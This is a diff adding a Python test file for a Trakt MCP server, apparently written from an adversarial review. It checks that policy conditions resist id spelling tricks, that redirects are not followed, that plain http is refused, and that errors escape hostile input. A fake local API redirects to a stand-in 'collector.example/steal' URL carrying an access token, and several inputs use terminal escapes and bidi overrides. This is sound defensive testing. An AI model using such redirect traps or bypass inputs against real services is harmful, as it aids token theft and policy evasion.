@@ -1,0 +1,200 @@
+"""Issue #17, through real `trakt-mcp` processes: each test is one finding of the adversarial review that used to
+get through, and must now find the guard (or the server) closed.
+
+1 conditions judge the canonical values the tool uses; 2 loopback HTTP needs a token; 4 slowloris cannot starve a
+legitimate client; 6 a redirect's Location (which can carry a token) reaches no result and no log, and http:// is
+refused beyond loopback; 8 errors quote a short escaped prefix of a value, and answers match questions by exact id.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+import threading
+from collections.abc import AsyncIterator, Iterator
+from contextlib import asynccontextmanager, contextmanager
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+
+import anyio
+import pytest
+from mcp import Client
+from mcp.client.stdio import StdioServerParameters
+from mcp.shared.exceptions import MCPError
+
+from tests.conftest import text_of
+
+ROOT = Path(__file__).resolve().parent.parent
+SECRET = "hunter2-access-token-0123456789"
+
+CONDITIONS_POLICY: dict[str, Any] = {
+    "version": "1",
+    "default": "allow",
+    "rules": {
+        "add_user_watchlist": {
+            "action": "allow",
+            "reason": "not that one",
+            "deny_if": [{"arg": "items[*].trakt_id", "equals": "120"}],
+        },
+        "checkin_to_show": {
+            "action": "allow",
+            "reason": "no spoilers, and always say something",
+            "require": ["message"],
+            "deny_if": [{"arg": "show_id", "equals": "breaking-bad"}],
+        },
+    },
+}
+
+
+def environment(home: Path, **extra: str) -> dict[str, str]:
+    """The child's environment: the test's (isolated home, in-memory keyring importable from the repo root)."""
+    env = {**os.environ, "TRAKT_MCP_HOME": str(home), "PYTHONPATH": str(ROOT), **extra}
+    return {key: value for key, value in env.items() if value}
+
+
+@asynccontextmanager
+async def real_server(home: Path, policy: dict[str, Any] | None = None) -> AsyncIterator[Client]:
+    """`trakt-mcp --sandbox [--policy FILE]` over stdio, as an MCP client starts it."""
+    args = ["-m", "trakt_mcp", "--sandbox"]
+    if policy is not None:
+        home.mkdir(parents=True, exist_ok=True)
+        (home / "policy.json").write_text(json.dumps(policy), encoding="utf-8")
+        args += ["--policy", str(home / "policy.json")]
+    params = StdioServerParameters(command=sys.executable, args=args, env=environment(home), cwd=str(ROOT))
+    async with Client(params, mode="legacy") as client:
+        yield client
+
+
+async def sign_in(client: Client) -> None:
+    """The sandbox's device flow: it approves the code after the first poll."""
+    await client.call_tool("start_device_auth", {})
+    for _ in range(10):
+        if "Signed in" in text_of(await client.call_tool("check_auth_status", {})):
+            return
+        await anyio.sleep(1.0)
+    raise AssertionError("the sandbox sign-in did not complete")
+
+
+# --- 1: conditions judge the canonical values ------------------------------------------------------------------
+
+
+async def test_no_spelling_of_a_denied_id_gets_past_a_condition(tmp_path: Path) -> None:
+    spellings = [" 120", "0120", "00000000120", "\u0661\u0662\u0660", "\uff11\uff12\uff10", "120 "]
+    async with real_server(tmp_path / "home", CONDITIONS_POLICY) as client:
+        await sign_in(client)
+        answers = {}
+        for spelling in spellings:
+            items = [{"trakt_id": spelling}]
+            answers[spelling] = await client.call_tool(
+                "add_user_watchlist", {"watchlist_type": "movies", "items": items}
+            )
+        allowed = await client.call_tool(
+            "add_user_watchlist", {"watchlist_type": "movies", "items": [{"trakt_id": "16662"}]}
+        )
+        watchlist = text_of(await client.call_tool("fetch_user_watchlist", {"watchlist_type": "movies"}))
+    for spelling, answer in answers.items():
+        said = text_of(answer)
+        assert answer.is_error, f"{spelling!r} ran: {said}"
+        assert "not that one" in said or "Invalid arguments, nothing was sent: items.0.trakt_id" in said, said
+    assert not allowed.is_error and "Inception" in watchlist  # the tool itself works
+    assert "Dark Knight" not in watchlist
+
+
+async def test_a_padded_show_id_and_a_blank_message_are_judged_as_the_checkin_would_send_them(tmp_path: Path) -> None:
+    async with real_server(tmp_path / "home", CONDITIONS_POLICY) as client:
+        await sign_in(client)
+        padded = await client.call_tool(
+            "checkin_to_show", {"show_id": " Breaking-Bad", "season": 1, "episode": 1, "message": "hello"}
+        )
+        blanks = [
+            await client.call_tool("checkin_to_show", {"show_id": "severance", "season": 1, "episode": 1, "message": m})
+            for m in (" ", "\u200b\t\n")
+        ]
+        posted = await client.call_tool(
+            "checkin_to_show", {"show_id": "severance", "season": 1, "episode": 1, "message": "Great pilot"}
+        )
+    assert padded.is_error and "no spoilers" in text_of(padded)
+    for blank in blanks:
+        assert blank.is_error and "requires message is present" in text_of(blank), text_of(blank)
+    assert not posted.is_error, text_of(posted)
+
+
+# --- 6: redirects and http:// ----------------------------------------------------------------------------------
+
+
+@contextmanager
+def redirecting_api() -> Iterator[tuple[str, list[str]]]:
+    """A loopback 'API' that answers every request with a redirect whose Location carries a token."""
+    seen: list[str] = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            seen.append(self.path)
+            self.send_response(302)
+            self.send_header("Location", f"https://collector.example/steal?access_token={SECRET}")
+            self.send_header("Set-Cookie", f"session={SECRET}")
+            self.send_header("Content-Length", "0")
+            self.end_headers()
+
+        def log_message(self, *args: Any) -> None:
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{server.server_address[1]}", seen
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+def run_cli(home: Path, *args: str, **env: str) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [sys.executable, "-m", "trakt_mcp", *args],
+        capture_output=True,
+        text=True,
+        timeout=60,
+        env=environment(home, **env),
+        cwd=ROOT,
+    )
+
+
+def test_a_redirect_is_never_followed_and_its_location_reaches_no_output(tmp_path: Path) -> None:
+    with redirecting_api() as (url, seen):
+        done = run_cli(
+            tmp_path, "-v", "call", "fetch_trending_shows", "limit=1", TRAKT_API_URL=url, TRAKT_CLIENT_ID="test-id"
+        )
+    assert done.returncode == 1
+    assert "redirect, which is never followed" in done.stdout
+    assert SECRET not in done.stdout and SECRET not in done.stderr
+    assert "collector.example" not in done.stdout + done.stderr
+    assert len(seen) == 1  # asked once, not retried, not followed
+
+
+def test_an_http_api_url_beyond_loopback_is_refused_naming_the_setting(tmp_path: Path) -> None:
+    done = run_cli(tmp_path, "call", "fetch_trending_shows", TRAKT_API_URL="http://api.trakt.tv", TRAKT_CLIENT_ID="x")
+    assert done.returncode == 2
+    assert "api_url" in done.stderr and "https://" in done.stderr
+    for url in ("https://user:pw@api.trakt.tv", "ftp://api.trakt.tv"):
+        refused = run_cli(tmp_path, "call", "fetch_trending_shows", TRAKT_API_URL=url, TRAKT_CLIENT_ID="x")
+        assert refused.returncode == 2 and "api_url" in refused.stderr and "pw" not in refused.stderr
+
+
+# --- 8: errors quote a short escaped prefix --------------------------------------------------------------------
+
+
+async def test_an_error_quotes_a_short_escaped_prefix_of_a_huge_value(tmp_path: Path) -> None:
+    huge = "\x1b[2J" + "9" * 5_000_000
+    async with real_server(tmp_path / "home") as client:
+        invalid = await client.call_tool("fetch_trending_shows", {"limit": huge})
+        with pytest.raises(MCPError) as unknown:  # an unknown tool is a JSON-RPC error (-32602)
+            await client.call_tool("\u202e" + "x" * 200_000, {})
+    for said in (text_of(invalid), unknown.value.error.message):
+        assert len(said) < 600, said[:600]
+        assert "\x1b" not in said and "\u202e" not in said
+    assert invalid.is_error
+    assert "limit:" in text_of(invalid) and "5,000,004 characters" in text_of(invalid)
